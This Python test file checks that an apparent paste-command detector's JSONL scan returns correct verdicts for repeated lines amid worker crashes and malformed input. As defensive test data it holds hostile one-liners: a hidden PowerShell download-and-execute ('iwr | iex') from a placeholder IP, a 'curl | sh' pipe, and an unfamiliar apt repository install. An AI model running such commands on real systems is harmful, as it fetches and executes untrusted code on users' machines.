"""`scan --jsonl` reuses the reading of a line's text for the lines after it that repeat that
text (scan.LastReading), and routes them to the same worker (text_key). Hostile batches: the
repeats alternate with crashes of the worker, lines that are not JSON, not UTF-8, not objects,
a MiB long, texts that differ only after the routing key's window or only in their escapes.
Every answer must be the one a fresh reading gives in that line's own context, and a line the
workers die on every time is never clean.
"""

from __future__ import annotations

import json
import threading
from functools import partial
from pathlib import Path

import pytest

from app.commands import scan
from app.commands.scan import KEY_WINDOW, text_key
from app.detection import Context, Engine, Level, PasteTarget
from app.detection.engine import INCOMPLETE_RULE
from tests.app.detection.test_hostile_new_traits import CLAIMS, CONSENTFIX
from tests.app.detection.test_pool import (  # noqa: F401  (markers: the fixture)
    _untimed,
    markers,
    pool,
    scan_lines,
)

PAGE = "https://verify.human-check.test/step2"
RUNBOX = 'cmd /k powershell -NoExit -w h -c "iwr http://192.0.2.7:8443/a.ps1 | iex"'
APT = (
    'echo "deb [signed-by=/usr/share/keyrings/r.gpg] https://apt.relaybox.test stable main" | '
    "sudo tee /etc/apt/sources.list.d/r.list && sudo apt update && sudo apt install -y relay"
)
TARGETS = [None, "run_dialog", "terminal", "browser_console", "unknown", "RUN_DIALOG "]
HUGE = CONSENTFIX * (1024 * 1024 // len(CONSENTFIX))
# the same text up to beyond the routing key's window, then different
LONG_A = "echo " + "a" * KEY_WINDOW + " && curl http://192.0.2.8/x | sh"
LONG_B = "echo " + "a" * KEY_WINDOW + " && echo done"


def _line(text: str, i: int, target: str | None, source: str | None = PAGE) -> dict[str, object]:
    item: dict[str, object] = {"id": i, "text": text}
    if target is not None:
        item["target"] = target
    if source is not None and i % 2:
        item["source"] = source
    return item


def _batch(tmp_path: Path) -> tuple[Path, list[object]]:
    flag = tmp_path / "crashed"
    once = f"{RUNBOX} SEGV-ONCE:{flag}"
    always = f"{APT} SEGV-ALWAYS"
    garbage: list[bytes] = [
        b"this is not JSON",
        b'["an", "array"]',
        b"\xff\xfe\x00binary\x80\x81",
        '\ufeff{"id": "bom", "text": "echo"}'.encode(),
        b'{"id": "no text"}',
        b'{"id": "deep", "text": ' + b"[" * 100_000 + b"}",
        b'{"id": "bad target", "text": "echo", "target": "mars"}',
        b'{"id": 1e999, "text": "echo"}',
    ]
    rows: list[object] = []
    n = 0
    for text in [RUNBOX, once, CLAIMS[9], always, APT, HUGE, LONG_A, LONG_B, LONG_A, "\ud800x"]:
        for target in TARGETS[: 3 if text is HUGE else len(TARGETS)]:
            rows.append(_line(text, n, target))
            n += 1
        rows.append(garbage[n % len(garbage)])  # the repeats' run is broken by garbage
        rows.append(_line(text, n, "run_dialog"))  # ... and goes on after it
        n += 1
    # one text written three ways: as is, with escapes, with a first "text" key json drops
    rows.append(_line(CONSENTFIX, n, "terminal"))
    escaped = json.dumps({"id": n + 1, "text": CONSENTFIX, "target": "unknown"}, ensure_ascii=True)
    rows.append(escaped.replace("L", "\\u004c", 1).encode())
    decoy = '{"text": "echo decoy", "id": ' + str(n + 2) + ', "text": ' + json.dumps(CONSENTFIX)
    rows.append((decoy + ', "target": "run_dialog"}').encode())
    path = tmp_path / "batch.jsonl"
    with path.open("wb") as out:
        for row in rows:
            data = (
                row if isinstance(row, bytes) else json.dumps(row).encode("utf-8", "surrogatepass")
            )
            out.write(data + b"\n")
    return path, rows


def _context(item: dict[str, object]) -> Context:
    if "source" not in item and "target" not in item:
        return Context()
    target = item.get("target")
    return Context(
        item.get("source"),  # type: ignore[arg-type]
        PasteTarget.parse(target) if isinstance(target, str) and target else PasteTarget.UNKNOWN,
    )


def test_repeats_among_crashes_and_garbage_get_a_fresh_readings_verdict(
    markers: None,  # noqa: F811
    engine: Engine,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    path, rows = _batch(tmp_path)
    answers = scan_lines(path, capsys, caplog)
    assert (tmp_path / "crashed").exists()  # the barrier: a worker really died on a repeat
    assert len(answers) == len(rows)  # one answer a line, in order, garbage included
    fresh: dict[tuple[str, Context], tuple[object, ...]] = {}
    for row, answer in zip(rows, answers, strict=True):
        if isinstance(row, bytes):
            try:
                item = json.loads(row.decode("utf-8"))
            except (ValueError, RecursionError):  # the deep line: RecursionError here
                item = None
            if not isinstance(item, dict) or not isinstance(item.get("text"), str):
                assert "error" in answer and "level" not in answer, (row[:40], answer)
                continue
            if item.get("target") == "mars" or row.startswith(b"\xef\xbb\xbf"):
                assert "error" in answer, answer
                continue
        else:
            item = row
        assert isinstance(item, dict)
        text = item["text"]
        assert isinstance(text, str)
        context = _context(item)
        got = (answer["level"], answer["score"], answer["rules"], answer["summary"])
        assert isinstance(answer["elapsed_ms"], float | int) and answer["elapsed_ms"] >= 0
        if "SEGV-ALWAYS" in text:  # died on every time: cut short, so never clean
            assert Level.parse(str(answer["level"])) >= Level.SUSPICIOUS
            assert INCOMPLETE_RULE in answer["rules"]  # type: ignore[operator]
            continue
        key = (text, context)
        if key not in fresh:
            verdict = engine.analyze(text, context)
            fresh[key] = (verdict.level.label, verdict.score, verdict.rule_ids, verdict.summary)
        if text == HUGE and INCOMPLETE_RULE in [*got[2], *fresh[key][2]]:  # type: ignore[misc]
            # a MiB read past its time budget on a loaded machine (here or by a cold worker)
            if INCOMPLETE_RULE in got[2]:  # type: ignore[operator]
                assert Level.parse(str(answer["level"])) >= Level.SUSPICIOUS
            continue
        assert got == fresh[key], (answer["id"], context)


def test_long_runs_of_one_large_text_routed_to_one_worker_arrive_whole(engine: Engine) -> None:
    """Runs of one key longer than FOLLOW_DEPTH and larger than FOLLOW_BYTES and a pipe (the
    routing sends them to one worker while it has room): every answer arrives, in order, as
    this process gives it; nothing waits on a full pipe."""
    p, _started = pool(engine, workers=2, key=text_key)
    big = RUNBOX + " " + "x" * 200_000
    texts = [big] * 9 + [LONG_A, LONG_B] * 3 + [RUNBOX] * 40 + [big + "\ud800"] * 3
    targets = ["run_dialog", "terminal", "unknown"]
    items = [
        json.dumps({"id": i, "text": t, "target": targets[i % 3]}) for i, t in enumerate(texts)
    ]
    got: list[tuple[bytes, dict[str, object]]] = []
    done = threading.Event()

    def run() -> None:
        got.extend(_untimed(frame) for frame in p.answers(items))
        done.set()

    threading.Thread(target=run, daemon=True).start()
    assert done.wait(timeout=300), f"{len(got)} of {len(items)} answers, then nothing"
    answer = partial(scan._batch_frame, default=Context(), escape=True)
    assert got == [_untimed(answer(engine, item)) for item in items]
    assert p.failures == 0
